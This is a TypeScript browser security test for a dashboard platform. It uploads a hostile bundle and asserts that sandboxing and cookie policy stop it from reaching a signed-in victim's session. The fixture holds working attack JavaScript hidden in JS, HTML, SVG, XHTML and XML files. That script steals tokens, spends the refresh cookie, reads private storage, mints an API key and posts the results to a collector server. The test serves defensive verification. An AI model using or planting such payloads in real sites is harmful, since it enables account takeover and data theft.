import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminToken, createOrganization, signUp, type TestUser } from './support/accounts.js';
import { launchChromium, type TestBrowser } from './support/browser.js';
import { client, type Call } from './support/client.js';
import { bundleOf, createDashboard, uploadBundle } from './support/dashboards.js';
import { oneMode, startTestFleet, type TestFleet } from './support/fleet.js';

/** What a hostile page tells its author: where it ran, and what each attempt got. */
interface Report {
  file: string;
  href: string;
  done: boolean;
  steps: Record<string, string>;
}

/** The attacker's server: every page's report lands here (a no-cors POST, which any page may send). */
async function startCollector(): Promise<{ url: string; reports: Report[]; close(): Promise<void> }> {
  const reports: Report[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      if (req.method === 'POST') reports.push(JSON.parse(Buffer.concat(chunks).toString()) as Report);
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/report`, reports, close: () => new Promise((done) => server.close(() => done())) };
}

/**
 * The script of every hostile file: spend the victim's refresh cookie (on the page's own origin
 * and on the API's), read the victim's storage (the browser's, and the platform's with any token
 * it got), mint an API key, and report each result to the attacker.
 */
function attack(file: string, apiOrigin: string, collector: string): string {
  return `(async () => {
  const report = { file: ${JSON.stringify(file)}, href: String(location.href), done: false, steps: {} };
  const send = () => fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) }).catch(() => {});
  const attempt = async (name, run) => { try { report.steps[name] = String(await run()).slice(0, 400); } catch (e) { report.steps[name] = 'threw ' + (e && e.name) + ': ' + (e && e.message); } };
  await send();
  let token = null;
  await attempt('browser storage', () => (token = localStorage.getItem('svc_access')));
  for (const base of ['', ${JSON.stringify(apiOrigin)}]) {
    await attempt('refresh-cookie at ' + (base || 'own origin'), async () => {
      const res = await fetch(base + '/api/v1/auth/refresh-cookie', { method: 'POST', credentials: 'include' });
      const text = await res.text();
      token = JSON.parse(text).data?.accessToken ?? token;
      return res.status + ' ' + text;
    });
    // Unreadable, but enough to rotate the cookie (or revoke its family) if the server honoured it.
    await attempt('blind refresh-cookie at ' + (base || 'own origin'), async () => (await fetch(base + '/api/v1/auth/refresh-cookie', { method: 'POST', mode: 'no-cors', credentials: 'include' })).type);
    const auth = token ? { authorization: 'Bearer ' + token } : {};
    await attempt('platform storage at ' + (base || 'own origin'), async () => {
      const res = await fetch(base + '/api/v1/storage/diary', { credentials: 'include', headers: auth });
      return res.status + ' ' + (await res.text());
    });
    await attempt('api key at ' + (base || 'own origin'), async () => {
      const res = await fetch(base + '/api/v1/account/api-keys', { method: 'POST', credentials: 'include', headers: { ...auth, 'content-type': 'application/json' }, body: JSON.stringify({ name: 'pwned', scopes: ['commands:execute'] }) });
      return res.status + ' ' + (await res.text());
    });
  }
  report.done = true;
  await send();
})();`;
}

/** The hostile bundle: a dashboard's main.js, and the same script as an HTML page, an SVG image, an XHTML and an XML document. */
function hostileFiles(apiOrigin: string, collector: string): Record<string, string> {
  const js = (file: string) => attack(file, apiOrigin, collector);
  return {
    'main.js': `export function mount(el) { el.textContent = 'innocent'; }\nexport function unmount() {}\n${js('main.js')}\n`,
    'index.html': `<!doctype html><html><body><p>hello</p><script>${js('index.html')}</script></body></html>\n`,
    'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[${js('evil.svg')}]]></script></svg>\n`,
    'x.xhtml': `<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${js('x.xhtml')}]]></script></body></html>\n`,
    'x.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<doc><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${js('x.xml')}]]></script></doc>\n`,
  };
}

const PAGES = ['index.html', 'evil.svg', 'x.xhtml', 'x.xml'];
const SECRET = `victim-diary-${randomBytes(6).toString('hex')}`;

describe.each(oneMode('embedded'))('a hostile dashboard opened by a signed-in victim in Chromium (%s infrastructure)', (mode) => {
  let fleet: TestFleet;
  let call: Call;
  let browser: TestBrowser;
  let collector: Awaited<ReturnType<typeof startCollector>>;
  let victim: TestUser;
  let signedIn: { accessToken: string; refreshToken: string };
  /** The API's origin and the dashboard origin as the victim's browser names them: the same site, two ports. */
  let api: string;
  let dash: string;
  let files: { jwt: string; apiShare: string; dashShare: string; dashView: string };

  const waitFor = async <T>(what: string, find: () => T | undefined, ms = 10_000): Promise<T> => {
    const until = Date.now() + ms;
    for (;;) {
      const found = find();
      if (found !== undefined) return found;
      if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
      await new Promise((r) => setTimeout(r, 50));
    }
  };

  /** The browser's `svc_refresh` cookie (Secure, which localhost may hold over http; Playwright's URL filter would leave it out). */
  const refreshCookieOf = async () => (await browser.context.cookies()).find((c) => c.name === 'svc_refresh' && c.domain === 'localhost');

  /** Opens `url` in a tab of its own as a victim would (a link, or a page of the console), waits for it to settle, closes it. */
  const open = async (url: string, options: { headers?: Record<string, string>; runs: boolean }) => {
    const page = await browser.context.newPage();
    if (options.headers) await page.setExtraHTTPHeaders(options.headers);
    // A file answered as a download ends the navigation without a page: that is the point.
    await page.goto(url, { waitUntil: 'load', timeout: 10_000 }).catch((err: Error) => {
      if (!/download|ERR_ABORTED/i.test(err.message)) throw err;
    });
    if (options.runs) await waitFor(`the report of ${url}`, () => collector.reports.find((r) => r.done && r.href === url));
    else await page.waitForTimeout(300);
    await page.close();
  };

  beforeAll(async () => {
    fleet = await startTestFleet(mode, { dashboardOrigin: true });
    call = client(fleet.url);
    api = `http://localhost:${new URL(fleet.url).port}`;
    dash = fleet.dashboard!.origin;
    expect(dash).toMatch(/^http:\/\/localhost:\d+$/);
    collector = await startCollector();

    const admin = await adminToken(call);
    const attacker = await signUp(call, admin);
    const org = await createOrganization(call, attacker);
    victim = await signUp(call, admin);
    expect((await call('/api/v1/storage/diary', { method: 'PUT', token: victim.token, body: { data: { secret: SECRET }, ttl: 3600 } })).status).toBe(201);

    const board = await createDashboard(call, attacker.token, org.scope, `evil-${randomBytes(4).toString('hex')}`, 'public');
    const bundle = await bundleOf(Object.entries(hostileFiles(api, collector.url)).map(([name, content]) => ({ name, content })));
    expect((await uploadBundle(fleet.url, attacker.token, board.id, bundle, { version: '1.0.0' })).status).toBe(201);
    const share = await call(`/api/v1/dashboards/${board.id}/shares`, { token: attacker.token, body: {} });
    const view = await call(`/api/v1/dashboards/${board.slug}/view-tokens`, { method: 'POST', token: victim.token });
    expect(view.status, JSON.stringify(view.body)).toBe(201);
    expect(view.body.data.entryPoint).toBe(`${dash}/api/v1/dashboard-views/${view.body.data.token}/bundle/1.0.0/main.js`);
    const detail = await call(`/api/v1/dashboards/${board.slug}`, { token: victim.token });
    expect(detail.body.data.entryPoint).toBe(`${dash}/api/v1/dashboards/${board.slug}/bundle/1.0.0/main.js`);
    files = {
      jwt: `${api}/api/v1/dashboards/${board.slug}/bundle/1.0.0`,
      apiShare: `${api}/api/v1/shared-dashboards/${share.body.data.token}/bundle/1.0.0`,
      dashShare: `${dash}/api/v1/shared-dashboards/${share.body.data.token}/bundle/1.0.0`,
      dashView: view.body.data.base_url,
    };

    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await collector?.close();
    await fleet?.stop();
  });

  it('signs the victim in on the API origin, whose /docs works under its policy, with the refresh token in an HttpOnly cookie', async () => {
    const page = await browser.context.newPage();
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    await page.goto(`${api}/docs`);
    await page.locator('.swagger-ui .info .title').filter({ hasText: 'svc API' }).waitFor({ timeout: 15_000 });
    await page.locator('.opblock').first().waitFor();
    expect(violations).toEqual([]);
    // In the page, as the console will: login, then the access token kept in the origin's storage.
    signedIn = await page.evaluate(async ({ email, password }) => {
      const res = await fetch('/api/v1/auth/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email, password }) });
      const { tokens } = ((await res.json()) as { data: { tokens: { accessToken: string; refreshToken: string } } }).data;
      (globalThis as unknown as { localStorage: { setItem(key: string, value: string): void } }).localStorage.setItem('svc_access', tokens.accessToken);
      return { accessToken: tokens.accessToken, refreshToken: tokens.refreshToken };
    }, victim);
    await page.close();
    expect(await refreshCookieOf()).toMatchObject({ value: signedIn.refreshToken, httpOnly: true, sameSite: 'Strict', path: '/api/v1/auth' });
  }, 60_000);

  it('runs none of its pages on the API origin: not by the bundle URL with the JWT, nor by the share link', async () => {
    for (const file of [...PAGES, 'main.js']) {
      await open(`${files.jwt}/${file}`, { headers: { authorization: `Bearer ${signedIn.accessToken}` }, runs: false });
      await open(`${files.apiShare}/${file}`, { runs: false });
    }
    expect(collector.reports).toEqual([]);
  }, 60_000);

  it('runs its pages on the dashboard origin, sandboxed, where they reach nothing of the victim', async () => {
    for (const base of [files.dashShare, files.dashView]) {
      for (const file of PAGES) await open(`${base}/${file}`, { runs: file !== 'x.xml' });
    }
    // A page of the dashboard origin without the sandbox (as if a proxy dropped the header) is
    // the API's site: the browser sends it the SameSite=Strict cookie, and identity refuses it.
    const page = await browser.context.newPage();
    const probe = `${dash}/probe.html`;
    await page.route(probe, (route) => route.fulfill({ contentType: 'text/html', body: `<script>${attack('probe', api, collector.url)}</script>` }));
    // A page Playwright answers has no server address, so Chromium counts it public and would ask
    // before it reaches loopback; a real answer of this origin comes from loopback, as here.
    await browser.context.grantPermissions(['local-network-access'], { origin: dash });
    // What went over the wire (CORS and CORP keep it from the page, and from Playwright's events).
    const wire = new Map<string, { url?: string; cookie?: boolean; status?: number }>();
    const entry = (id: string) => wire.get(id) ?? wire.set(id, {}).get(id)!;
    const cdp = await browser.context.newCDPSession(page);
    cdp.on('Network.requestWillBeSent', (e) => void (entry(e.requestId).url = e.request.url));
    cdp.on('Network.requestWillBeSentExtraInfo', (e) => void (entry(e.requestId).cookie = /svc_refresh=/.test(String(e.headers.Cookie ?? e.headers.cookie ?? ''))));
    cdp.on('Network.responseReceivedExtraInfo', (e) => void (entry(e.requestId).status = e.statusCode));
    await cdp.send('Network.enable');
    await page.goto(probe);
    await waitFor('the probe\'s report', () => collector.reports.find((r) => r.done && r.href === probe));
    await page.close();
    const refreshes = [...wire.values()].filter((r) => r.url === `${api}/api/v1/auth/refresh-cookie`).map(({ cookie, status }) => ({ cookie, status }));
    expect(refreshes).toEqual([
      { cookie: true, status: 403 },
      { cookie: true, status: 403 },
    ]);

    const ran = collector.reports.filter((r) => r.done).map((r) => r.href);
    for (const base of [files.dashShare, files.dashView]) for (const file of ['index.html', 'evil.svg', 'x.xhtml']) expect(ran).toContain(`${base}/${file}`);
    for (const report of collector.reports) {
      const text = JSON.stringify(report);
      expect(report.href.startsWith(`${dash}/`), text).toBe(true);
      for (const secret of [signedIn.accessToken, signedIn.refreshToken, victim.token, SECRET, 'sk-svc-']) expect(text, report.href).not.toContain(secret);
      if (report.done && report.href !== probe) expect(report.steps['browser storage'], report.href).toMatch(/^threw SecurityError/);
    }
  }, 90_000);

  it("leaves the victim's session, keys and storage as they were", async () => {
    const keys = await call('/api/v1/account/api-keys', { token: signedIn.accessToken });
    expect([keys.status, keys.body.data]).toEqual([200, []]);
    expect((await refreshCookieOf())?.value).toBe(signedIn.refreshToken);
    expect((await call('/api/v1/storage/diary', { token: signedIn.accessToken })).body.data.value).toEqual({ secret: SECRET });
    // Never rotated by a page: the token is still the family's latest, and refreshes once.
    const refreshed = await call('/api/v1/auth/refresh', { body: { refreshToken: signedIn.refreshToken } });
    expect(refreshed.status, JSON.stringify(refreshed.body)).toBe(200);
    // The view token is its session's (the one the victim registered with): signing out closes it at once.
    const viewFile = `${fleet.dashboard!.url}${new URL(files.dashView).pathname}/main.js`;
    expect((await fetch(viewFile)).status).toBe(200);
    expect((await call('/api/v1/auth/logout', { method: 'POST', token: victim.token })).status).toBe(200);
    expect((await fetch(viewFile)).status).toBe(401);
  });
});
